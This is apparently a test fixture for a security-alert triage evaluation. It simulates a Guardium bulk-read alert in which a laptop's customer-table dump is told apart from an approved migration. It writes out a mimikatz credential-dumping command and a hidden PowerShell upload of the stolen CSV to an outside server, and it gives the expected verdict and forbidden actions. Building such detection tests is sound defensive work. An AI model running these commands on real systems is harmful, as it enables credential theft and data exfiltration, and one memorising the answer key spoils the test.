// Guardium reports a bulk read of the customers; the same query was agreed for a move, but from the jump host, and this desk has a password stealer.
import { alert, by, connected, hashes, hostile, loggedOn, ran, situation, ticket, wrote } from '../../shorthand.ts'

export const guardiumSameQueryFromAnotherDesk = situation(
  'guardium-same-query-from-another-desk',
  'contradiction',
  'IBM Guardium: bulk read of sensitive objects',
  (setting) => {
    const felix = setting.person('felix.isaksson')
    const oskar = setting.person('oskar.falk')
    const laptop = setting.laptopOf('felix.isaksson')
    const database = setting.machine('srv-sql-01')
    const jump = setting.machine('srv-jump-01')
    const at = setting.ago({ hours: 1, minutes: 41 })
    const minute = 60_000
    const server = '45.138.16.203'
    const query = 'SELECT * FROM crm.dbo.customers'
    const folder = `C:\\Users\\${felix.account}\\AppData\\Local\\Temp\\w`
    const fields = [
      'ruleID=20071',
      'ruleDesc=Bulk read of sensitive objects (more than 10000 rows)',
      'severity=MED',
      `devTime=${setting.iso(at)}`,
      "devTimeFormat=yyyy-MM-dd'T'HH:mm:ss.SSS'Z'",
      'serverType=MS SQL SERVER',
      'classification=Customer data',
      'category=Data access',
      'dbProtocol=TDS MS SQL SERVER',
      'dbProtocolVersion=7.4',
      'usrName=svc-sql',
      'sourceProgram=SQLCMD',
      `start=${at}`,
      'dbUser=svc-sql',
      `dst=${database.ip}`,
      'dstPort=1433',
      `src=${laptop.ip}`,
      'srcPort=50844',
      'protocol=TCP',
      'type=SQL_LANG',
      `violationID=${setting.seeded.number('guardium violation', 100_000_000, 900_000_000)}`,
      `sql=${query}`,
      'error=',
      'recordsAffected=61244',
      'dbName=crm',
      `serverHostName=${database.dnsName}`,
      'collector=guard-col-01',
      'policy=Customers and payroll v9',
      'baseline=same SQL seen 3 times in 7 days',
    ]
    return {
      alerts: [
        alert(
          setting,
          at + minute,
          'ibm_guardium',
          'Bulk read of sensitive objects',
          `<25>${setting.iso(at + 20_000)} guard-col-01 guard_sender[11842]: LEEF:1.0|IBM|Guardium|12.1|20071|${fields.join('|')}`,
        ),
      ],
      facts: {
        investigations: [
          ticket(
            setting,
            'Customers into the new CRM, three dry runs',
            setting.ago({ days: 5 }),
            'NOT_APPLICABLE',
            [{ machine: database }, { machine: jump }],
            '',
            {
              source: 'USER',
              status: 'CLOSED',
              assignee: oskar,
              priority: 'LOW',
              tags: ['Change'],
              comments: [
                {
                  author: oskar.name,
                  body: `${query} as svc-sql, from ${jump.host} only, once a night for three nights.`,
                  at: setting.ago({ days: 5 }),
                },
                {
                  author: oskar.name,
                  body: 'Third run is through, numbers agree. No more reads of that kind from my side.',
                  at: setting.ago({ days: 1, hours: 8 }),
                },
              ],
            },
          ),
        ],
        telemetry: [
          ...[4, 3, 2].map((days) =>
            ran(
              jump,
              setting.ago({ days, hours: 9 }),
              'sqlcmd.exe',
              `sqlcmd -S srv-sql-01 -Q "${query}" -o customers.csv`,
              {
                ...by(oskar),
                InitiatingProcessFileName: 'powershell.exe',
              },
            ),
          ),
          ran(
            laptop,
            at - 34 * minute,
            'wdiag.exe',
            `"${folder}\\wdiag.exe" privilege::debug sekurlsa::logonpasswords exit`,
            {
              ...by(felix),
              ...hashes(setting.file('mimikatz.exe')),
              FolderPath: folder,
              InitiatingProcessFileName: 'powershell.exe',
            },
          ),
          ran(
            laptop,
            at - minute,
            'sqlcmd.exe',
            `sqlcmd -S srv-sql-01 -U svc-sql -P ******** -Q "${query}" -o ${folder}\\c.csv`,
            {
              ...by(felix),
              InitiatingProcessFileName: 'powershell.exe',
            },
          ),
          loggedOn(database, at - 30_000, 'svc-sql', { RemoteIP: laptop.ip, RemoteDeviceName: laptop.host }),
          wrote(laptop, at + minute, 'c.csv', folder, setting.file('guardium c.csv'), {
            InitiatingProcessFileName: 'sqlcmd.exe',
            InitiatingProcessAccountName: felix.account,
          }),
          connected(laptop, at + 6 * minute, server, {
            InitiatingProcessFileName: 'powershell.exe',
            InitiatingProcessCommandLine: `powershell.exe -w hidden Invoke-RestMethod -Method Put -InFile ${folder}\\c.csv https://${server}/u`,
            InitiatingProcessAccountName: felix.account,
          }),
        ],
      },
      expected: {
        ...hostile(laptop.host),
        severities: ['high', 'critical'],
        forbidden: [
          { action: 'isolate-machine', target: database.host },
          { action: 'isolate-machine', target: jump.host },
          { action: 'contain-account', target: oskar.email },
        ],
      },
      because:
        'The agreed runs came from the jump host and ended the day before yesterday. This read came from a technician’s laptop, where a known password stealer ran half an hour earlier under another name, and six minutes later the file was put on a current command server.',
    }
  },
)
